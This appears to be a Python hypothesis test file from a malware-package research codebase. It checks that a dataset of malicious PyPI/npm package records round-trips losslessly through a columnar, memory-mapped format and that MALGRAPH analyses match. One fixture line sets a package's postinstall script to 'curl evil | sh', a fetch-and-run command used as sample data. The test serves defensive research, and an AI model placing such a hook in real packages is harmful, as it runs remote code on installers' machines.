"""Columnar round-trip: dataset -> arrays -> hydrated dataclasses is
byte-identical under the canonical :mod:`repro.io.datasets`
serialisation — including tombstoned/removed packages, artifact-less
entries, reports with unresolved mentions, and degraded-collection
corpora — and MALGRAPH plus the corpus analyses read a facade exactly
as they read the dataclass dataset.
"""

from __future__ import annotations

import json

from hypothesis import given, settings, strategies as st

from repro.analysis.diversity import compute_graph_stats
from repro.analysis.inventory import compute_release_timeline
from repro.analysis.overlap import compute_dg_size_cdf
from repro.collection.records import (
    CollectedReport,
    DatasetEntry,
    MalwareDataset,
    SourceClaim,
)
from repro.core.columnar import (
    ColumnarDataset,
    ColumnarMalwareDataset,
    load_columnar,
    save_columnar,
)
from repro.core.malgraph import MalGraph
from repro.ecosystem.package import PackageId, make_artifact
from repro.io.datasets import entry_to_dict, report_to_dict
from repro.io.malgraphs import canonical_malgraph_json

_SOURCES = ["snyk", "phylum", "tianwen", "datadog"]
_CODES = ["A = 1\n", "B = 2\n", "import os\nC = 3\n"]
_NAMES = ("p0", "p1", "p2", "p3", "p4")


@st.composite
def entries(draw):
    name = draw(st.sampled_from(_NAMES))
    eco = draw(st.sampled_from(("pypi", "npm")))
    has_artifact = draw(st.booleans())
    claims = draw(
        st.lists(
            st.tuples(st.sampled_from(_SOURCES), st.integers(0, 500), st.booleans()),
            min_size=1,
            max_size=3,
        )
    )
    entry = DatasetEntry(
        package=PackageId(eco, name, "1.0"),
        claims=[SourceClaim(s, d, share) for s, d, share in claims],
        downloads=draw(st.integers(0, 1000)),
        release_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        # tombstones: removed and/or detected packages round-trip too
        removal_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        detection_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        campaign_id=draw(st.one_of(st.none(), st.sampled_from(("c1", "c2")))),
        actor=draw(st.one_of(st.none(), st.sampled_from(("actor-a", "actor-b")))),
    )
    if has_artifact:
        entry.artifact = make_artifact(
            eco,
            name,
            "1.0",
            {"pkg/m.py": draw(st.sampled_from(_CODES)), "README.md": "doc"},
            description=draw(st.sampled_from(("", "desc"))),
            dependencies=tuple(
                draw(st.lists(st.sampled_from(_NAMES), max_size=2, unique=True))
            ),
            keywords=tuple(
                draw(st.lists(st.sampled_from(("k1", "k2")), max_size=2, unique=True))
            ),
            scripts=draw(
                st.one_of(st.none(), st.just({"postinstall": "curl evil | sh"}))
            ),
        )
        entry.artifact_origin = draw(st.sampled_from(("source:test", "mirror:m1")))
    return entry


@st.composite
def reports(draw):
    rid = draw(st.sampled_from(("r1", "r2", "r3")))
    mentions = draw(st.lists(st.sampled_from(_NAMES), max_size=3))
    return CollectedReport(
        report_id=rid,
        url=f"https://intel.test/{rid}",
        site="intel.test",
        category=draw(st.sampled_from(("Security org.", "Registry"))),
        source=draw(st.sampled_from(_SOURCES)),
        publish_day=draw(st.one_of(st.none(), st.integers(0, 500))),
        packages=[PackageId("pypi", n, "1.0") for n in mentions],
        unresolved=draw(
            st.lists(st.tuples(st.sampled_from(("ghost", "??")), st.just("1.0")),
                     max_size=2)
        ),
        actor_alias=draw(st.one_of(st.none(), st.just("alias-x"))),
    )


@st.composite
def datasets(draw):
    pool = draw(st.lists(entries(), min_size=0, max_size=5))
    unique = {}
    for entry in pool:
        unique.setdefault(entry.package, entry)
    by_id = {}
    for report in draw(st.lists(reports(), min_size=0, max_size=3)):
        by_id.setdefault(report.report_id, report)
    return MalwareDataset(
        entries=list(unique.values()), reports=list(by_id.values())
    )


def canonical(dataset: MalwareDataset) -> str:
    return json.dumps(
        {
            "entries": [entry_to_dict(e) for e in dataset.entries],
            "reports": [report_to_dict(r) for r in dataset.reports],
        },
        sort_keys=True,
    )


def assert_roundtrip(dataset: MalwareDataset, tmp_path=None) -> None:
    col = ColumnarDataset.from_dataset(dataset)
    facade = ColumnarMalwareDataset(col)
    assert canonical(facade) == canonical(dataset)
    if tmp_path is not None:
        save_columnar(col, tmp_path / "col")
        loaded = ColumnarMalwareDataset(load_columnar(tmp_path / "col", mmap=True))
        assert canonical(loaded) == canonical(dataset)


@given(datasets())
@settings(max_examples=60, deadline=None)
def test_roundtrip_byte_identical(ds):
    assert_roundtrip(ds)


@given(datasets())
@settings(max_examples=20, deadline=None)
def test_roundtrip_through_disk_mmap(ds):
    import tempfile
    from pathlib import Path

    col = ColumnarDataset.from_dataset(ds)
    with tempfile.TemporaryDirectory() as tmp:
        save_columnar(col, Path(tmp) / "col")
        loaded = ColumnarMalwareDataset(
            load_columnar(Path(tmp) / "col", mmap=True)
        )
        assert canonical(loaded) == canonical(ds)


def test_facade_memoises_hydration(small_dataset):
    facade = ColumnarMalwareDataset(ColumnarDataset.from_dataset(small_dataset))
    assert facade.entries[3] is facade.entries[3]
    assert facade.reports[0] is facade.reports[0]
    assert isinstance(facade, MalwareDataset)
    # hydrated artifacts carry the pooled sha: no re-canonicalisation
    entry = next(e for e in facade.entries if e.artifact is not None)
    assert entry.artifact._sha256 is not None


def test_small_collection_roundtrips(small_dataset, tmp_path):
    assert_roundtrip(small_dataset, tmp_path)


def _malgraph_and_corpus_renders(dataset: MalwareDataset):
    """Canonical MALGRAPH JSON plus the Table II / Fig. 2 / Fig. 4 renders."""
    malgraph = MalGraph.build(dataset)
    return (
        canonical_malgraph_json(malgraph),
        compute_graph_stats(malgraph).render(),
        compute_release_timeline(dataset).render(),
        compute_dg_size_cdf(dataset).render(),
    )


def test_malgraph_and_analyses_over_the_facade(small_dataset, tmp_path):
    """A facade built in memory, and one memory-mapped back from disk,
    yield the dataclass dataset's MALGRAPH and corpus numbers."""
    col = ColumnarDataset.from_dataset(small_dataset)
    save_columnar(col, tmp_path / "col")
    expected = _malgraph_and_corpus_renders(small_dataset)
    for facade in (
        ColumnarMalwareDataset(col),
        ColumnarMalwareDataset(load_columnar(tmp_path / "col", mmap=True)),
    ):
        assert _malgraph_and_corpus_renders(facade) == expected


def test_degraded_collection_roundtrips(small_world, tmp_path):
    """A corpus collected under heavy chaos (quarantined URLs, missing
    artifacts) is still losslessly columnar-encodable."""
    from repro.reliability import FaultPlan
    from repro.world import run_collection

    result = run_collection(small_world, plan=FaultPlan.heavy(11))
    assert result.stats.degraded  # the plan actually bit
    assert_roundtrip(result.dataset, tmp_path)
